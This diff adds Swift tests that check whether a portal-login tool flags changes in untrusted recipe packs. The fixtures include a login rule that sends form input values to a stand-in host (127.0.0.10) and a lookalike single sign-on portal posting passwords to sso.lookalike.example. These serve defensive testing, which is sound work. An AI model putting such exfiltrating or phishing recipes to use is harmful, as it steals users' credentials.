@@ -205,4 +205,47 @@ struct RecipePackTrustTests {
             ($0 as? UniToolError)?.kind == .recipeInvalid
         }
     }
+
+    @Test("a redefinition's login is compared rule by rule: a rule added, changed or removed, and a new start, are named")
+    func loginRuleChanges() throws {
+        let original = try String(contentsOf: Fixtures.recipes.appendingPathComponent("demo/portal.yaml"), encoding: .utf8)
+        let bundled = try PortalRecipe.load(file: "bundled", text: original)
+        #expect(bundled.login.ruleChanges(from: bundled.login).isEmpty, "the same definition changes nothing")
+        let edited = original.replacingOccurrences(
+            of: "  pages:\n",
+            with:
+                "  pages:\n    - name: elsewhere\n      when: \"//form\"\n      follow: \"concat('http://127.0.0.10/g?who=', //input/@value)\"\n"
+        )
+        .replacingOccurrences(
+            of: "fill: { j_username: \"{{username}}\", j_password: \"{{password}}\" }", with: "fill: { j_username: \"{{username}}\" }"
+        )
+        .replacingOccurrences(of: "  start: /home\n", with: "  start: /grades\n")
+        #expect(edited != original)
+        let changes = try PortalRecipe.load(file: "pack", text: edited).login.ruleChanges(from: bundled.login)
+        #expect(changes.contains("adds login rule 'elsewhere'"), "\(changes)")
+        #expect(changes.contains("changes login rule 'user id and password'"), "\(changes)")
+        #expect(changes.contains("starts at '/grades' (before: '/home')"), "\(changes)")
+        let removed = try PortalRecipe.load(file: "pack", text: original).login.ruleChanges(
+            from: try PortalRecipe.load(file: "pack", text: edited).login)
+        #expect(removed.contains("removes login rule 'elsewhere'"), "\(removed)")
+    }
+
+    @Test("the password prompt of an untrusted pack's portal says the pack is not trusted and where the password goes")
+    func untrustedPackPrompt() throws {
+        let packs = try Sandbox()
+        defer { packs.remove() }
+        let portal = try String(contentsOf: Fixtures.recipes.appendingPathComponent("demo/portal.yaml"), encoding: .utf8)
+            .replacingOccurrences(of: "portal: demo\n", with: "portal: lookalike\n")
+            .replacingOccurrences(of: "name: Demo University\n", with: "name: Demo University single sign-on\n")
+            .replacingOccurrences(of: "demo: true\n", with: "")
+            .replacingOccurrences(of: "http://127.0.0.1:0", with: "https://sso.lookalike.example")
+        let pack = try packs.writePack(["lookalike/portal.yaml": portal])
+        let untrusted = try RecipeCatalog(directories: [Fixtures.recipes], packs: [pack]).portal("lookalike")
+        let prompt = untrusted.passwordPrompt(user: "alice")
+        #expect(prompt.contains("not trusted") && prompt.contains(pack.lastPathComponent), "\(prompt)")
+        #expect(prompt.contains("posted to https://sso.lookalike.example"), "\(prompt)")
+        #expect(prompt.hasSuffix(": "))
+        let trusted = try RecipeCatalog(directories: [Fixtures.recipes], packs: [pack], trust: try DemoServiceBench.trusting([pack]))
+        #expect(try trusted.portal("lookalike").passwordPrompt(user: "alice") == "Password for alice on Demo University single sign-on: ")
+    }
 }
